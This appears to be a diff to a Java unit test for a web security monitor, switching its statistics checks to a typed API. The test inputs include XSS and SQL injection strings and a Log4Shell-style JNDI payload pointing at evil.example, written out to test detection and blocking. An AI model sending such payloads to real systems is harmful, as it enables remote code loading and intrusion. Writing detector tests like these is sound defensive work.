@@ -136,7 +136,7 @@ class SecurityMonitorTest {
             SecurityMonitor m = signaturesOnly(SecurityConfig.Mode.DETECT);
             assertNull(admit(m, xss(), A));
             assertEquals(1, m.findings(AttackCategory.XSS));
-            assertEquals(0, num(m.stats().get("blocked_requests")));
+            assertEquals(0, m.stats().blockedRequests());
             assertEquals(1, appender.list.size());
             ILoggingEvent e = appender.list.get(0);
             assertEquals(Level.WARN, e.getLevel());
@@ -158,7 +158,7 @@ class SecurityMonitorTest {
                 assertFalse(detail.contains(secret), () -> "public detail names '" + secret + "': " + detail);
             }
             assertEquals(1, m.findings(AttackCategory.XSS));
-            assertEquals(1, num(m.stats().get("blocked_requests")));
+            assertEquals(1, m.stats().blockedRequests());
             assertEquals("blocked", keyValues(appender.list.get(0)).get("action"));
         }
 
@@ -167,7 +167,7 @@ class SecurityMonitorTest {
         void cleanAdmitted() {
             SecurityMonitor m = signaturesOnly(SecurityConfig.Mode.BLOCK);
             assertNull(admit(m, clean(), A));
-            assertEquals(0, num(m.stats().get("findings")));
+            assertEquals(0, m.stats().findings());
             assertTrue(appender.list.isEmpty());
         }
 
@@ -176,7 +176,7 @@ class SecurityMonitorTest {
         void off() {
             SecurityMonitor m = monitor(b -> b.rateLimit(false).signatures(false).signatureMode(SecurityConfig.Mode.BLOCK));
             assertNull(admit(m, xss(), A));
-            assertEquals(0, num(m.stats().get("findings")));
+            assertEquals(0, m.stats().findings());
             assertFalse(m.check(xss()).hasIssues());
             assertTrue(appender.list.isEmpty());
         }
@@ -200,7 +200,7 @@ class SecurityMonitorTest {
             assertTrue(retry.compareTo(Duration.ofSeconds(1)) >= 0, retry::toString);
             assertEquals(Duration.ofSeconds(30), retry, "one token every 30 s at 2 per minute");
             assertEquals(1, m.findings(AttackCategory.RATE_LIMIT));
-            assertEquals(1, num(m.stats().get("blocked_requests")));
+            assertEquals(1, m.stats().blockedRequests());
 
             ILoggingEvent e = appender.list.get(0);
             assertEquals("rate limit exceeded", e.getMessage());
@@ -234,7 +234,7 @@ class SecurityMonitorTest {
             assertNull(admit(m, clean(), A));
             assertNull(admit(m, clean(), A));
             assertEquals(2, m.findings(AttackCategory.RATE_LIMIT));
-            assertEquals(0, num(m.stats().get("blocked_requests")));
+            assertEquals(0, m.stats().blockedRequests());
             assertEquals(2, appender.list.size());
             assertEquals("logged", keyValues(appender.list.get(0)).get("action"));
         }
@@ -247,8 +247,8 @@ class SecurityMonitorTest {
             assertNull(admit(m, clean(), B));
             assertNotNull(admit(m, clean(), A));
             assertNotNull(admit(m, clean(), B));
-            assertEquals(2, num(m.stats().get("rate_limited_clients_tracked")));
-            assertEquals(1, num(m.stats().get("rate_limit_per_minute")));
+            assertEquals(2, m.stats().rateLimitedClientsTracked());
+            assertEquals(1, m.stats().rateLimitPerMinute());
         }
 
         @Test
@@ -297,8 +297,9 @@ class SecurityMonitorTest {
             for (int i = 0; i < 10; i++) {
                 assertNull(admit(m, clean(), A));
             }
-            assertEquals(0, num(m.stats().get("findings")));
-            assertNull(m.stats().get("rate_limit_per_minute"));
+            assertEquals(0, m.stats().findings());
+            assertEquals(0, m.stats().rateLimitPerMinute());
+            assertFalse(m.stats().rateLimited());
         }
     }
 
@@ -316,7 +317,7 @@ class SecurityMonitorTest {
                 assertEquals(Map.of("issues_found", 1, "issues",
                         List.of(Map.of("rule_id", "xss.script-tag", "category", "xss", "location", "query:q"))), r.toMap());
             }
-            assertEquals(0, num(m.stats().get("findings")));
+            assertEquals(0, m.stats().findings());
             assertEquals(0, m.findings(AttackCategory.XSS));
             assertTrue(appender.list.isEmpty());
             assertNull(admit(m, clean(), A), "the one token is still there");
@@ -343,19 +344,17 @@ class SecurityMonitorTest {
             admit(m, FakeRequest.get("/search").query("q=%3Cscript%3E&id=1%20or%201%3D1"), A);
             admit(m, FakeRequest.get("/").header("User-Agent", "${jndi:ldap://evil.example/a}"), A);
             admit(m, clean(), A); // over the limit: detected
-            Map<String, Object> s = m.stats();
-            Map<String, Object> byCategory = map(s.get("by_category"));
-            assertEquals(List.of("xss", "sql_injection", "path_traversal", "command_injection", "jndi_lookup",
-                    "crlf_injection", "rate_limit"), List.copyOf(byCategory.keySet()));
-            assertEquals(2, num(byCategory.get("xss")));
-            assertEquals(1, num(byCategory.get("sql_injection")));
-            assertEquals(1, num(byCategory.get("jndi_lookup")));
-            assertEquals(1, num(byCategory.get("rate_limit")));
-            assertEquals(0, num(byCategory.get("path_traversal")));
-            assertEquals(5, num(s.get("findings")));
-            assertEquals(0, num(s.get("blocked_requests")));
-            assertEquals(3, num(s.get("rate_limit_per_minute")));
-            assertEquals(1, num(s.get("rate_limited_clients_tracked")));
+            SecurityStats s = m.stats();
+            assertEquals(List.of(AttackCategory.values()), List.copyOf(s.byCategory().keySet()), "every category");
+            assertEquals(2, s.findings(AttackCategory.XSS));
+            assertEquals(1, s.findings(AttackCategory.SQL_INJECTION));
+            assertEquals(1, s.findings(AttackCategory.JNDI_LOOKUP));
+            assertEquals(1, s.findings(AttackCategory.RATE_LIMIT));
+            assertEquals(0, s.findings(AttackCategory.PATH_TRAVERSAL));
+            assertEquals(5, s.findings());
+            assertEquals(0, s.blockedRequests());
+            assertEquals(3, s.rateLimitPerMinute());
+            assertEquals(1, s.rateLimitedClientsTracked());
         }
     }
 
@@ -460,7 +459,7 @@ class SecurityMonitorTest {
             assertEquals(1, m.findings(AttackCategory.SQL_INJECTION));
             assertEquals(0, m.findings(AttackCategory.XSS), "the query is not the body");
             assertEquals(0, m.findings(AttackCategory.PATH_TRAVERSAL), "the path is not the body");
-            assertEquals(0, num(m.stats().get("blocked_requests")));
+            assertEquals(0, m.stats().blockedRequests());
             assertEquals(1, appender.list.size());
             ILoggingEvent e = appender.list.get(0);
             Map<String, Object> kv = keyValues(e);
@@ -476,8 +475,8 @@ class SecurityMonitorTest {
             m.inspectBody(clean(), A, "r", "{\"title\":\"O'Brien's union\"}");
             SecurityMonitor off = monitor(b -> b.rateLimit(false).scanBodies(false));
             off.inspectBody(clean(), A, "r", "<script>alert(1)</script>");
-            assertEquals(0, num(m.stats().get("findings")));
-            assertEquals(0, num(off.stats().get("findings")));
+            assertEquals(0, m.stats().findings());
+            assertEquals(0, off.stats().findings());
             assertTrue(appender.list.isEmpty());
         }
     }
